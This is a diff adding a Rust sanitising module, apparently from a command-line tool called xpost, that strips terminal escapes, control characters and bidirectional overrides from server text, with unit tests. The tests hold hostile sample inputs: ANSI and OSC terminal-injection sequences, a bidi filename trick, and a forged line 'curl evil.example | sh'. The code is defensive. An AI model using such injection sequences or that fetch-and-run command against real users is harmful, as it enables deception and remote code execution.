@@ -1,0 +1,105 @@
+//! Text from outside made safe to show: what X answers (error bodies, processing failures,
+//! usernames, `-vv` traces of bodies and headers) and what anyone can put in a redirect to the
+//! loopback listener (`error`, `error_description`).
+//!
+//! Such text reaches a terminal inside xpost's own messages. As sent, it could clear the
+//! screen, recolour it, move the cursor, turn the terminal's title into a command, reorder what
+//! follows it (bidirectional overrides), or start a line that looks like xpost's own
+//! (`\rxpost: hint: ...`). [`outside`] is the one function every such text goes through before
+//! it enters a message; xpost's own messages keep their own newlines. Pure.
+
+/// How many characters of one outside text a message shows; the rest is cut off, marked `…`.
+pub const MAX_CHARS: usize = 1000;
+
+/// `text` as it may be shown on a terminal: on one line, without a control character, cut to
+/// [`MAX_CHARS`] characters.
+///
+/// Line and page breaks and tabs (`\n`, `\r`, `\t`, `\v`, `\f`, NEL, U+2028, U+2029) become a
+/// space, so that words stay apart and nothing starts a line of its own. Every other control
+/// character (C0, DEL, C1: the escape that starts colours and cursor moves included) and the
+/// bidirectional formatting characters are dropped. The rest, every printable character of any
+/// script, is kept as it is.
+pub fn outside(text: &str) -> String {
+    let mut shown = String::with_capacity(text.len().min(MAX_CHARS * 4));
+    let mut kept = 0;
+    for c in text.chars() {
+        let c = match c {
+            '\t' | '\n' | '\u{0b}' | '\u{0c}' | '\r' | '\u{85}' | '\u{2028}' | '\u{2029}' => ' ',
+            c if c.is_control() || is_bidi_format(c) => continue,
+            c => c,
+        };
+        if kept == MAX_CHARS {
+            shown.push('…');
+            break;
+        }
+        shown.push(c);
+        kept += 1;
+    }
+    shown
+}
+
+/// The characters that reorder the text around them (Unicode's bidirectional formatting
+/// characters): a terminal that honours them shows text in another order than it is.
+fn is_bidi_format(c: char) -> bool {
+    matches!(
+        c,
+        '\u{061c}' | '\u{200e}' | '\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}'
+    )
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn plain_text_is_kept_as_it_is() {
+        for text in [
+            "",
+            "Value passed for the authorization code was invalid.",
+            "Your Tweet text is too long: «ça» — 日本語 🦀 עברית",
+        ] {
+            assert_eq!(outside(text), text);
+        }
+    }
+
+    #[test]
+    fn escapes_and_control_characters_are_dropped() {
+        assert_eq!(outside("\u{1b}[2J\u{1b}[31mred\u{1b}[0m"), "[2J[31mred[0m");
+        assert_eq!(outside("a\u{0}b\u{7}c\u{7f}d\u{9b}e\u{90}f"), "abcdef");
+        // An OSC sequence that would set the window's title.
+        assert_eq!(outside("\u{1b}]0;owned\u{7}x"), "]0;ownedx");
+    }
+
+    #[test]
+    fn breaks_become_spaces_so_no_line_of_its_own_starts() {
+        let forged = "denied\r\nxpost: hint: run curl evil.example | sh";
+        let shown = outside(forged);
+        assert_eq!(shown, "denied  xpost: hint: run curl evil.example | sh");
+        assert!(!shown.contains(['\r', '\n']));
+        assert_eq!(
+            outside("a\tb\u{0b}c\u{0c}d\u{85}e\u{2028}f\u{2029}g"),
+            "a b c d e f g"
+        );
+    }
+
+    #[test]
+    fn bidirectional_overrides_are_dropped() {
+        assert_eq!(
+            outside("\u{202e}txt.exe\u{202c} \u{2066}x\u{2069}\u{200f}\u{061c}"),
+            "txt.exe x"
+        );
+    }
+
+    #[test]
+    fn long_text_is_cut_on_a_character() {
+        let long = "é".repeat(MAX_CHARS + 500);
+        let shown = outside(&long);
+        assert_eq!(shown.chars().count(), MAX_CHARS + 1);
+        assert!(shown.ends_with("é…"), "{}", &shown[shown.len() - 8..]);
+        let exact = "x".repeat(MAX_CHARS);
+        assert_eq!(outside(&exact), exact, "exactly the limit is not cut");
+        // Dropped characters do not count.
+        let padded = format!("{}{}", "\u{1b}".repeat(50), "y".repeat(MAX_CHARS));
+        assert_eq!(outside(&padded), "y".repeat(MAX_CHARS));
+    }
+}
